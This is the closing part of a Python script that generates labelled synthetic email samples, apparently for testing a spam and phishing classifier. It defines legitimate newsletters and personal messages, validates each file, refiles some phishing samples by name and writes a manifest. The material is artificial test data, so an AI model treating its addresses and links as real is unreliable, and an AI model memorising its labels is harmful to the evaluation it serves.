bulk("costco-newsletter", "en", "rick", "2024-11-20 06:02:11 -0500", ("Costco Wholesale", "Costco@online.costco.com"),
     "Member-Only Savings start today!", esp("13.111.18.54", "mta8.online.costco.com", "online.costco.com", "200608"),
     "https://mobilecontent.costco.com/live/resource/img/static-us-landing-pages/costco-logo.png", "Member-Only Savings",
     ["Savings valid 11/20 - 12/15. Kirkland Signature paper towels $4 OFF &bull; Dyson V15 $150 OFF &bull; "
      "Instant Pot Duo $30 OFF", "Shop in warehouse or online at Costco.com."],
     ("Shop Savings", track("https://click.online.costco.com/?qs=", "https://www.costco.com/online-offers.html", "cst1")),
     "#e31837", [("Unsubscribe", track("https://click.online.costco.com/?qs=", "https://www.costco.com/unsubscribe", "cst2")),
                 ("Privacy", track("https://click.online.costco.com/?qs=", "https://www.costco.com/privacy-policy.html", "cst3"))],
     "Costco Wholesale, 999 Lake Drive, Issaquah, WA 98027", bcl=6,
     desc="Genuine Costco marketing email from online.costco.com (passes), Salesforce click-tracking redirects.",
     hdrs=["List-Unsubscribe: <https://click.online.costco.com/unsub_center.aspx?qs=" + alnum("cstls", 40) + ">"])
bulk("usps-informed-delivery", "en", "kate", "2025-04-17 07:31:05 -0400",
     ("USPS Informed Delivery", "USPSInformeddelivery@email.informeddelivery.usps.com"),
     "Your Daily Digest for Thu, 4/17 is ready to view", esp("56.0.84.17", "mta-84-17.email.informeddelivery.usps.com",
                                                             "email.informeddelivery.usps.com", "usps"),
     "https://informeddelivery.usps.com/img/id-logo.png", "You have 3 mailpieces and 1 package arriving soon",
     ["Mailpieces: DTE Energy, Chase, 1 flat (no image)", "Package: 9205 5901 1234 5678 9012 34 - expected today"],
     ("View Dashboard", "https://informeddelivery.usps.com/box/pages/secure/DashboardAction_input?utm_source=email"),
     "#333366", [("Manage notifications", "https://informeddelivery.usps.com/box/pages/secure/Preferences")],
     "USPS will never ask for payment or personal information by email or text.",
     desc="Genuine USPS Informed Delivery daily digest (passes), links to informeddelivery.usps.com.")
bulk("substack-newsletter", "en", "rick", "2025-08-14 12:04:50 +0000", ("Notes on Tech", "notesontech@substack.com"),
     "The quiet return of email phishing kits", esp("69.72.42.3", "m42-3.mailgun.net", "substack.com", "s1",
                                                   f"bounce+{hx('sbk', 6)}.{hx('sbk2', 4)}-rick.dunmore=outlook.com@mg1.substack.com"),
     "https://substackcdn.com/image/fetch/w_96,h_96,c_fill/notes-on-tech.png", "The quiet return of email phishing kits",
     ["This week: why kits moved from hosting on compromised WordPress sites to free developer platforms, and what "
      "that means for link reputation.", f'<a href="{tk("https://substack.com/redirect/", "sb1")}">Read the full '
      f'post</a> &middot; <a href="{tk("https://substack.com/redirect/", "sb2")}">Listen (12 min)</a>'],
     ("Read in app", tk("https://substack.com/app-link/post?publication_id=1184220&post_id=", "sb3")), "#ff6719",
     [("Unsubscribe", tk("https://notesontech.substack.com/action/disable_email?token=", "sb4"))],
     "&copy; 2025 Notes on Tech - 548 Market Street PMB 72296, San Francisco, CA 94104", bcl=3,
     hdrs=["List-Unsubscribe: <https://notesontech.substack.com/action/disable_email?token=" + alnum("sbu", 40) + ">",
           "List-Unsubscribe-Post: List-Unsubscribe=One-Click"],
     desc="Genuine Substack newsletter via Mailgun (passes) whose links all go through substack.com/redirect.")
msg("photos-lake-trip", "clean", "legit", "en", "kate", "2024-08-26 20:07:15 -0400",
    ("Sarah Whitfield", "sarah.k.whitfield@gmail.com"), "Lake trip photos!",
    via_gmail("sarah.k.whitfield@gmail.com"),
    lambda m: alt(m, '<div dir="ltr">Hey Kate!<div><br></div><div>Finally uploaded everything from the lake weekend. '
                  'Here\'s the shared album: <a href="https://photos.app.goo.gl/Zk4Rw8qT2mVnC9xY7">'
                  "https://photos.app.goo.gl/Zk4Rw8qT2mVnC9xY7</a></div><div><br></div><div>The kayak ones are "
                  "hilarious. Let's do it again before it gets cold?</div><div><br></div><div>xo Sarah</div></div>\n"),
    "Personal Gmail message from a friend with a Google Photos shared-album link; passes authentication.",
    auth="pass", scl=1)
msg("re-saturday-hike", "clean", "legit", "en", "tom", "2025-05-08 18:22:40 +0100",
    ("Mike Tanner", "mike.tanner84@hotmail.com"), "RE: Saturday hike?",
    via_hotmail("mike.tanner84@hotmail.com", "GBR01-LO2"),
    lambda m: plain(
        "Sounds good - 8:30 at the car park by the visitor centre. I'll bring the flask and sandwiches.\n"
        "Forecast says dry until 3.\n\nMike\n\n________________________________\nFrom: Tom Walker "
        "<tomwalker1979@outlook.com>\nSent: 08 May 2025 17:54\nTo: Mike Tanner <mike.tanner84@hotmail.com>\n"
        "Subject: Saturday hike?\n\nFancy doing the ridge walk on Saturday if the weather holds? Could start early "
        "and be back for the match.\n\nTom\n"),
    "Personal reply from a friend's Hotmail account (passes) in an Outlook-quoted thread about a weekend walk; no links.",
    hdrs=["In-Reply-To: <" + "BL3P221MB0127" + hx("hike", 24).upper() + "@BL3P221MB0127.NAMP221.PROD.OUTLOOK.COM>"],
    auth="pass", scl=1)


# --------------------------------------------------------------------------------------------
# write, check, manifest


def check(path: Path, data: bytes):
    msg_ = email.message_from_bytes(data, policy=policy.default)
    problems = []
    for part in msg_.walk():
        problems += [f"part {part.get_content_type()}: {d!r}" for d in part.defects]
        for name, value in part.items():
            problems += [f"header {name}: {d!r}" for d in getattr(value, "defects", [])]
        if not part.is_multipart():
            part.get_content()
    for name in ("From", "To", "Subject", "Date", "Message-ID"):
        assert msg_[name] is not None, f"{path.name}: missing {name}"
    assert not problems, f"{path.name}: {problems}"


# Filed after the first scan where the engine's classification puts them (the names keep the writer's kind):
# legitimate notices between clean and bulk, and attacks that only link to a download (no program attached)
# under phishing, the folder for lures; malware/ keeps the messages that carry one.
REFILED = {
    "b23-bulk-paypal-receipt": "clean", "b23-phish-nfe-danfe-download": "phishing",
    "b23-phish-whatsapp-mensagem-voz": "phishing", "b23-phish-pix-comprovante": "phishing",
}


def main():
    counts: dict[str, int] = {}
    lines = []
    seen = set()
    for m in MESSAGES:
        name = f"b{N}-{m['kind']}-{m['slug']}.eml"
        assert name not in seen, name
        seen.add(name)
        assert (m["kind"] == "phish") == (m["cat"] in ("phishing", "malware")), name
        data = build(m)
        folder = REFILED.get(name[:-4], m["cat"])
        path = ROOT / "samples" / "mail" / folder / name
        check(path, data)
        path.write_bytes(data)
        rel = f"samples/mail/{folder}/{name}"
        lines.append(f"{rel} | {m['cat']} | {m['desc']}")
        counts[m["cat"]] = counts.get(m["cat"], 0) + 1
    (ROOT / "samples" / "tools" / f"blind{N}_manifest.txt").write_text("\n".join(lines) + "\n")
    attacks = sum(1 for m in MESSAGES if m["kind"] == "phish")
    langs = {l: sum(1 for m in MESSAGES if m["lang"] == l) for l in ("pt", "en")}
    print(f"{len(MESSAGES)} messages: {attacks} attacks, {len(MESSAGES) - attacks} legitimate; {counts}; {langs}")


if __name__ == "__main__":
    main()
